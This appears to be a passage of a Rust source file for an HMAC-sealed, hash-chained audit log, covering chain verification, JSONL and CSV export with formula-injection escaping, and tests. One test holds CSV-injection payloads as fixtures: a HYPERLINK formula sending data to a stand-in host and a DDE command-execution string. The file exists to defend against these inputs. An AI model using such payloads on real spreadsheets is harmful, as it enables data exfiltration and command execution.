            }
            return Ok(VerifyReport::Broken {
                seq: last_seq,
                reason: "the chain has no seal although an audit key is configured (the seal \
                         was removed, or the rows were written without the key)"
                    .into(),
            });
        };
        let seal_seq: i64 = seal.try_get("seq")?;
        let seal_hash: String = seal.try_get("hash")?;
        let seal_mac_hex: String = seal.try_get("mac")?;
        let mac_ok = hex::decode(&seal_mac_hex)
            .ok()
            .map(|tag| seal_mac(key, seal_seq, &seal_hash).map(|m| m.verify_slice(&tag).is_ok()))
            .transpose()?
            .unwrap_or(false);
        if !mac_ok {
            return Ok(VerifyReport::Broken {
                seq: seal_seq,
                reason: "the seal's HMAC does not verify with the configured key (the seal or \
                         the chain was rewritten without the key, or the key changed)"
                    .into(),
            });
        }
        if seal_seq > last_seq {
            return Ok(VerifyReport::Broken {
                seq: last_seq + 1,
                reason: format!(
                    "the chain ends at row {last_seq} but the seal covers row {seal_seq}: rows \
                     were removed from the end (truncation)"
                ),
            });
        }
        if seal_seq < last_seq {
            return Ok(VerifyReport::Broken {
                seq: seal_seq + 1,
                reason: format!(
                    "rows after {seal_seq} are not covered by the seal (appended without the key)"
                ),
            });
        }
        if seal_hash != prev {
            return Ok(VerifyReport::Broken {
                seq: last_seq,
                reason: "the head's hash differs from the sealed hash (the chain was recomputed)"
                    .into(),
            });
        }
        Ok(VerifyReport::Ok { rows, sealed: true })
    }

    /// The audit rows, oldest first; with `since`, only rows at or after it.
    pub async fn audit_rows(
        &self,
        since: Option<DateTime<Utc>>,
    ) -> Result<Vec<AuditRecord>, DbError> {
        let rows = q(concat!(audit_cols!(), "WHERE at >= ? ORDER BY seq"))
            .bind(since.map_or(i64::MIN, micros))
            .fetch_all(&self.pool)
            .await?;
        rows.iter().map(record_from_row).collect()
    }
}

/// Writes one JSON object per row, one row per line.
pub fn write_jsonl(rows: &[AuditRecord], out: &mut impl Write) -> std::io::Result<()> {
    for r in rows {
        serde_json::to_writer(&mut *out, r)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// The CSV columns, in order.
const CSV_HEADER: [&str; 13] = [
    "seq",
    "at",
    "actor",
    "actor_chat_id",
    "action",
    "subject",
    "app",
    "request",
    "connector_action",
    "outcome",
    "detail",
    "hash",
    "prev_hash",
];

/// Whether a spreadsheet would read the cell as a formula (OWASP "CSV injection"): it starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return.
fn formula_like(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn csv_field(out: &mut impl Write, s: &str) -> std::io::Result<()> {
    if formula_like(s) {
        // OWASP's advice: prefix a single quote, so the cell is text, and quote the field.
        return write!(out, "\"'{}\"", s.replace('"', "\"\""));
    }
    if s.contains([',', '"', '\n', '\r']) {
        write!(out, "\"{}\"", s.replace('"', "\"\""))
    } else {
        out.write_all(s.as_bytes())
    }
}

/// Writes RFC 4180 CSV: a header row, then one line per row (CRLF line ends); absent values
/// are empty fields. A cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
/// `@`, tab or CR) is written as text with a leading `'`: the CSV is for reading, the JSONL
/// export is the verbatim (hashable) form.
pub fn write_csv(rows: &[AuditRecord], out: &mut impl Write) -> std::io::Result<()> {
    out.write_all(CSV_HEADER.join(",").as_bytes())?;
    out.write_all(b"\r\n")?;
    for r in rows {
        let opt_i = |v: Option<i64>| v.map(|v| v.to_string()).unwrap_or_default();
        let fields: [String; 13] = [
            r.seq.to_string(),
            r.at.clone(),
            r.actor.clone(),
            r.actor_chat_id.clone().unwrap_or_default(),
            r.action.clone(),
            r.subject.clone().unwrap_or_default(),
            r.app.clone().unwrap_or_default(),
            opt_i(r.request),
            opt_i(r.connector_action),
            r.outcome.clone(),
            r.detail.clone(),
            r.hash.clone(),
            r.prev_hash.clone(),
        ];
        for (i, f) in fields.iter().enumerate() {
            if i > 0 {
                out.write_all(b",")?;
            }
            csv_field(out, f)?;
        }
        out.write_all(b"\r\n")?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;

    use super::*;
    use crate::core::audit::{AuditAction, AuditOutcome};
    use crate::core::model::{ActionId, AppName, Handle};
    use crate::core::ports::{Change, ReqRef, Store};
    use crate::store::testdb::{Backend, TestDb};
    use crate::store::{SqlStore, connect};

    /// Strings that stress the JSON escaping: quotes, backslashes, every control character,
    /// non-ASCII, astral planes, a NUL, a line separator, a lone `/`, and nothing.
    fn tricky() -> Vec<String> {
        let mut v: Vec<String> = [
            "",
            "plain",
            "\"quoted\" and \\back\\slashed\\",
            "tab\there, newline\nthere, return\r, form\u{c} feed, bell\u{7}",
            "NUL \u{0} inside",
            "é, ß, 日本語, 🦀, \u{2028}\u{2029}, \u{202e}reversed, \u{feff}",
            "</script>/slash",
            "\u{7f} delete and \u{80} \u{9f} C1",
            "{\"json\": [1, 2, null]}",
        ]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
        v.push((0u8..0x20).map(char::from).collect());
        v
    }

    #[allow(clippy::too_many_arguments)]
    fn both_forms(
        seq: i64,
        at: &str,
        actor: &str,
        chat: Option<&str>,
        action: &str,
        subject: Option<&str>,
        app: Option<&str>,
        request: Option<i64>,
        ca: Option<i64>,
        outcome: &str,
        detail: &str,
        prev: &str,
    ) -> (Vec<u8>, Vec<u8>) {
        let value = serde_json::json!([
            seq, at, actor, chat, action, subject, app, request, ca, outcome, detail, prev
        ])
        .to_string()
        .into_bytes();
        let mut buf = Vec::new();
        canonical_into(
            &mut buf, seq, at, actor, chat, action, subject, app, request, ca, outcome, detail,
            prev,
        )
        .unwrap();
        (value, buf)
    }

    #[test]
    fn canonical_bytes_are_those_of_the_json_value() {
        let tricky = tricky();
        let ints = [None, Some(0), Some(-1), Some(i64::MAX), Some(i64::MIN)];
        let mut n = 0;
        for (i, s) in tricky.iter().enumerate() {
            for (j, t) in tricky.iter().enumerate() {
                let opt_s = j.is_multiple_of(2).then_some(s.as_str());
                let int = ints[(i + j) % ints.len()];
                let (value, writer) = both_forms(
                    i64::MAX - j as i64,
                    "2025-01-02T03:04:05.000006Z",
                    s,
                    opt_s,
                    t,
                    opt_s.map(|_| t.as_str()),
                    None,
                    int,
                    ints[j % ints.len()],
                    s,
                    t,
                    GENESIS,
                );
                assert_eq!(
                    String::from_utf8_lossy(&value),
                    String::from_utf8_lossy(&writer)
                );
                assert_eq!(value, writer);
                // And the hash `append` stores is the one the packed check computes.
                assert_eq!(
                    chain_hash(
                        i64::MAX - j as i64,
                        "2025-01-02T03:04:05.000006Z",
                        s,
                        opt_s,
                        t,
                        opt_s.map(|_| t.as_str()),
                        None,
                        int,
                        ints[j % ints.len()],
                        s,
                        t,
                        GENESIS,
                    ),
                    hex::encode(Sha256::digest(&writer))
                );
                n += 1;
            }
        }
        assert_eq!(n, tricky.len() * tricky.len());
    }

    /// A reason such as `=HYPERLINK(…)` reaches a spreadsheet as text, not as a formula.
    #[test]
    fn csv_cells_that_look_like_formulas_are_neutralised() {
        let row = |detail: &str, actor: &str| AuditRecord {
            seq: 1,
            at: "2025-01-02T03:04:05.000006Z".into(),
            actor: actor.into(),
            actor_chat_id: Some("@everyone".into()),
            action: "request.submitted".into(),
            subject: None,
            app: None,
            request: Some(-3),
            connector_action: None,
            outcome: "ok".into(),
            detail: detail.into(),
            hash: "ab".into(),
            prev_hash: GENESIS.into(),
        };
        let cases = [
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\"",
            ),
            ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
            ("\t=1+1", "\"'\t=1+1\""),
            ("\r=1+1", "\"'\r=1+1\""),
        ];
        for (detail, cell) in cases {
            let mut out = Vec::new();
            write_csv(&[row(detail, "alice")], &mut out).unwrap();
            let csv = String::from_utf8(out).unwrap();
            let line = csv.split_once("\r\n").unwrap().1;
            assert!(
                line.contains(&format!(",ok,{cell},ab,")),
                "{detail:?}: {line}"
            );
            // The chat id starting with `@` and the negative request number too.
            assert!(line.contains(",\"'@everyone\","), "{line}");
            assert!(line.contains(",\"'-3\","), "{line}");
        }
        // Ordinary text is unchanged.
        let mut out = Vec::new();
        write_csv(&[row("needs it for Q3 - thanks", "bob")], &mut out).unwrap();
        let csv = String::from_utf8(out).unwrap();
        assert!(csv.contains(",bob,"), "{csv}");
        assert!(csv.contains(",ok,needs it for Q3 - thanks,ab,"), "{csv}");
    }

    #[test]
    fn rfc3339_without_chrono_is_chronos_text() {
        let check = |us: i64| {
            let mut buf = [0u8; 27];
            let ours = rfc3339_micros(us, &mut buf).map(str::to_owned);
            let theirs = from_micros(us).map(rfc3339).ok();
            match ours {
                Some(o) => assert_eq!(Some(o), theirs, "{us} µs"),
                // Declined only outside 1970..=9999; chrono then decides.
                None => assert!(!(0..253_402_300_800_000_000).contains(&us), "{us} µs"),
            }
        };
        let dates = [
            (1970, 1, 1),
            (1972, 2, 29),
            (1972, 12, 31),
            (1999, 12, 31),
            (2000, 2, 29),
            (2000, 3, 1),
            (2024, 2, 29),
            (2100, 2, 28),
            (2100, 3, 1),
            (2400, 2, 29),
            (9999, 12, 31),
        ];
        for (y, m, d) in dates {
            let day = Utc
                .with_ymd_and_hms(y, m, d, 0, 0, 0)
                .unwrap()
                .timestamp_micros();
            for off in [0, 1, 999_999, 1_000_000, 3_599_999_999, 86_399_999_999] {
                check(day + off);
                check(day - off);
            }
        }
        for us in [
            i64::MIN,
            -1,
            0,
            253_402_300_800_000_000 - 1,
            253_402_300_800_000_000,
            i64::MAX,
        ] {
            check(us);
        }
        // A spread over the whole range, xorshift-seeded.
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        for _ in 0..200_000 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            check((x % 260_000_000_000_000_000) as i64 - 1_000_000_000_000_000);
            check((x % 4_000_000_000_000_000) as i64);
        }
    }

    fn event(i: usize, text: &str) -> AuditEvent {
        let at = Utc.with_ymd_and_hms(2025, 1, 2, 3, 4, 5).unwrap()
            + chrono::TimeDelta::microseconds(i as i64 * 1_000_003);
        AuditEvent {
            at,
            actor: if i.is_multiple_of(3) {
                Actor::System
            } else {
                Actor::Person(Handle::parse("alice").unwrap())
            },
            actor_chat_id: i.is_multiple_of(2).then(|| text.to_owned()),
            action: AuditAction::ALL[i % AuditAction::ALL.len()],
            subject: (i % 4 != 1).then(|| Handle::parse("bob").unwrap()),
            app: (i % 5 != 2).then(|| AppName::parse("figma").unwrap()),
            request: ReqRef::None,
            connector_action: (i % 2 == 1).then_some(ActionId(i as i64 * 7919)),
            outcome: AuditOutcome::ALL[i % AuditOutcome::ALL.len()],
            detail: format!("{text} / row {i}"),
        }
    }

    /// A store with `n` rows of tricky text, sealed, appended a few per transaction.
    async fn tricky_chain(b: Backend, n: usize) -> (TestDb, SqlStore) {
        let db = TestDb::create(b).await;
        let key = SecretSlice::from(b"audit test key".to_vec());
        let store = connect(&db.url, Some(key)).await.unwrap();
        // PostgreSQL text cannot hold NUL.
        let texts: Vec<String> = tricky()
            .into_iter()
            .map(|t| match b {
                Backend::Postgres => t.replace('\0', "\\0"),
                Backend::Sqlite => t,
            })
            .collect();
        let mut i = 0;
        while i < n {
            let k = (1 + i % 4).min(n - i);
            let audit = (i..i + k)
                .map(|j| event(j, &texts[j % texts.len()]))
                .collect();
            store
                .commit(Change {
                    audit,
                    ..Change::default()
                })
                .await
                .unwrap();
            i += k;
        }
        (db, store)
    }

    /// The verdict (or error text) of both readings, with several page sizes for the packed
    /// one; they must agree.
    async fn same_verdicts(store: &SqlStore) -> Result<VerifyReport, String> {
        let reference = store
            .verify_audit_with(None)
            .await
            .map_err(|e| e.to_string());
        for page in [1, 2, 7, 40, PACKED_PAGE] {
            let packed = store
                .verify_audit_with(Some(page))
                .await
                .map_err(|e| e.to_string());
            assert_eq!(packed, reference, "page of {page} rows");
        }
        reference
    }

    async fn exec(store: &SqlStore, sql: &'static str) {
        q(sql).execute(&store.pool).await.unwrap();
    }

    async fn packed_reading_agrees_with_the_row_by_row_reading(b: Backend) {
        let (_db, store) = tricky_chain(b, 61).await;
        assert_eq!(
            same_verdicts(&store).await,
            Ok(VerifyReport::Ok {
                rows: 61,
                sealed: true
            })
        );
        // The packed reading really reads these rows (it does not fall back).
        let mut tx = store.pool.begin_read().await.unwrap();
        let page = fetch_packed(&mut tx, i64::MIN, 1000).await.unwrap();
        assert_eq!((page.count, page.last), (61, Some(61)));
        let mut chain = Chain::start();
        assert!(matches!(
            check_packed(&page.json, &mut chain),
            PageOutcome::Clean
        ));
        assert_eq!((chain.rows, chain.expected_seq), (61, 62));
        drop(tx);

        // Each tampering, at page boundaries and inside pages: same first broken row, same
        // reason.
        let tamperings: [&'static str; 9] = [
            "UPDATE audit SET detail = detail || ' ' WHERE seq = 14",
            "UPDATE audit SET actor_chat_id = NULL WHERE seq = 39",
            "UPDATE audit SET at = at + 1 WHERE seq = 41",
            "UPDATE audit SET hash = upper(hash) WHERE seq = 49",
            "DELETE FROM audit WHERE seq IN (35, 36)",
            "UPDATE audit SET seq = -seq WHERE seq = 20",
            "UPDATE audit SET prev_hash = hash WHERE seq = 8",
            "DELETE FROM audit WHERE seq > 57",
            "DELETE FROM audit WHERE seq = 1",
        ];
        let mut broken_at = Vec::new();
        for t in tamperings {
            let (_db, store) = tricky_chain(b, 61).await;
            exec(&store, t).await;
            match same_verdicts(&store).await {
                Ok(VerifyReport::Broken { seq, .. }) => broken_at.push(seq),
                other => panic!("{t}: {other:?}"),
            }
        }
        assert_eq!(broken_at, [14, 39, 41, 49, 37, -20, 8, 58, 2]);
    }

    #[tokio::test]
    async fn packed_reading_agrees_sqlite() {
        packed_reading_agrees_with_the_row_by_row_reading(Backend::Sqlite).await;
    }

    #[tokio::test]
    async fn packed_reading_agrees_postgres() {
        packed_reading_agrees_with_the_row_by_row_reading(Backend::Postgres).await;
    }

    /// Values SQLite's loose typing lets in: the packed reading hands these rows to the
    /// row-by-row reading, so the error is the same.
    #[tokio::test]
    async fn oddly_typed_values_give_the_row_by_row_error_sqlite() {
        for t in [
            "UPDATE audit SET at = 'soon' WHERE seq = 9",
            "UPDATE audit SET at = 1.5 WHERE seq = 9",
            "UPDATE audit SET at = 9223372036854775807 WHERE seq = 9",
            "UPDATE audit SET detail = x'00ff' WHERE seq = 9",
            "UPDATE audit SET connector_action = 'x' WHERE seq = 9",
            "UPDATE audit SET outcome = NULL WHERE seq = 9",
        ] {
            let (_db, store) = tricky_chain(Backend::Sqlite, 30).await;
            // NULL breaks NOT NULL: rebuild the table without constraints first.
            // One transaction on one connection: spread over pooled connections, a
            // connection with an older snapshot could still see the dropped table.
            if t.contains("NULL WHERE") {
                let mut tx = store.pool.begin_write().await.unwrap();
                for sql in [
                    "CREATE TABLE audit_loose AS SELECT * FROM audit",
                    "DROP TABLE audit",
                    "ALTER TABLE audit_loose RENAME TO audit",
                ] {
                    q(sql).execute(&mut tx).await.unwrap();
                }
                tx.commit().await.unwrap();
            }
            exec(&store, t).await;
            let r = same_verdicts(&store).await;
            assert!(
                r.is_err() || matches!(r, Ok(VerifyReport::Broken { seq: 9, .. })),
                "{t}: {r:?}"
            );
        }
    }
}
